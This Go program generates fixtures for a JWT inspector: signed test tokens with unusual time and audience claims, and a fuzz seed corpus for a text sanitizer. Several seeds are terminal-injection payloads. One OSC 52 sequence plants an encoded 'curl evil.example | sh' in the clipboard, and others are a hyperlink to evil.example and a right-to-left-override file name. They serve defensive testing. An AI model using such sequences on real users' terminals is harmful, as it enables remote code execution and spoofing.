// Command claims writes the fixtures of the claims and text-safety work:
//
//   - testdata/claims/NAME.token: HS256 tokens (secret "jwtlens-claims-fixtures", header
//     {"alg":"HS256","typ":"JWT"}) whose payloads hold the time claims, audiences and
//     control characters that inspect's claims tests judge at now = 1700000000
//     (2023-11-14 22:13:20 UTC): fractional iat/nbf, exp in milliseconds, as a string, as
//     a small duration, iat 2 s ahead, nbf 400 s ahead, an expired token, no exp, a bad
//     aud, and ESC[2J, OSC 52, BEL and U+202E in claim text;
//   - inspect/testdata/fuzz/FuzzSanitize: the seed corpus of FuzzSanitize, strings holding
//     the terminal control sequences, C1 codes, bidi overrides, zero-width characters and
//     broken UTF-8 that claim text can carry.
//
// Nothing here comes from a real token or a real person. Run from the module root:
//
//	go run ./testdata/gen/claims
package main

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"strconv"
)

// seeds names each seed file and gives the string it holds.
var seeds = []struct{ name, text string }{
	{"plain", "Jane Doe <jane@example.com>"},
	{"csi-clear", "Jane\x1b[2J\x1b[H Doe"},
	{"osc52-bel", "x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07y"},
	{"osc8-st", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"osc2-title", "\x1b]2;root@prod\x07"},
	{"bel", "ding\x07\x07"},
	{"rlo", "invoice\u202egpj.exe"},
	{"isolates", "\u2066a\u2067b\u2068c\u2069"},
	{"zero-width", "ad\u200bmin\u200c\u200d\u2060\ufeff"},
	{"c1", "\u009b2J\u009d52;c;x\u009c\u0085"},
	{"invalid-utf8", "ok\xff\xfe\xc3\x28\xe2\x82"},
	{"separators", "line\u2028para\u2029"},
	{"tags", "flag\U000E0067\U000E0062\U000E007F"},
	{"unfinished-escape", "\x1b[12;"},
	{"lone-esc", "\x1b"},
	{"controls", "\x00\x01\t\n\r\x7f"},
}

// tokens names each token fixture and gives its payload, written exactly as here.
var tokens = []struct{ name, payload string }{
	{"iat-fractional", `{"sub":"alice","iat":1699999000.5,"nbf":1699999000.25,"exp":1700003600}`},
	{"exp-milliseconds", `{"sub":"alice","iat":1699999000,"exp":1700003600000}`},
	{"exp-string", `{"sub":"alice","iat":1699999000,"exp":"1700003600"}`},
	{"exp-duration", `{"sub":"alice","iat":1699999000,"exp":3600}`},
	{"iat-ahead-2s", `{"sub":"alice","iat":1700000002,"exp":1700003600}`},
	{"nbf-ahead-400s", `{"sub":"alice","iat":1700000000,"nbf":1700000400,"exp":1700003600}`},
	{"expired", `{"sub":"alice","iat":1699980000,"exp":1699988480}`},
	{"no-exp", `{"sub":"alice","iat":1700000000}`},
	{"aud-shape", `{"sub":"alice","aud":["api",7],"exp":1700003600}`},
	{"control-chars", `{"name":"Jane\u001b[2J","nickname":"\u001b]52;c;ZWNobyBoaQ==\u0007","bell":"ding\u0007","file":"invoice\u202etxt.exe","exp":1700003600}`},
}

func main() {
	writeTokens()
	writeSeeds()
}

func writeTokens() {
	const secret = "jwtlens-claims-fixtures"
	dir := filepath.Join("testdata", "claims")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		log.Fatalf("cannot make %s: %v", dir, err)
	}
	enc := base64.RawURLEncoding
	header := enc.EncodeToString([]byte(`{"alg":"HS256","typ":"JWT"}`))
	for _, tk := range tokens {
		input := header + "." + enc.EncodeToString([]byte(tk.payload))
		mac := hmac.New(sha256.New, []byte(secret))
		mac.Write([]byte(input))
		token := input + "." + enc.EncodeToString(mac.Sum(nil))
		path := filepath.Join(dir, tk.name+".token")
		if err := os.WriteFile(path, []byte(token), 0o644); err != nil {
			log.Fatalf("cannot write %s: %v", path, err)
		}
	}
}

func writeSeeds() {
	dir := filepath.Join("inspect", "testdata", "fuzz", "FuzzSanitize")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		log.Fatalf("cannot make %s: %v", dir, err)
	}
	for _, s := range seeds {
		body := fmt.Sprintf("go test fuzz v1\nstring(%s)\n", strconv.Quote(s.text))
		path := filepath.Join(dir, s.name)
		if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
			log.Fatalf("cannot write %s: %v", path, err)
		}
	}
}
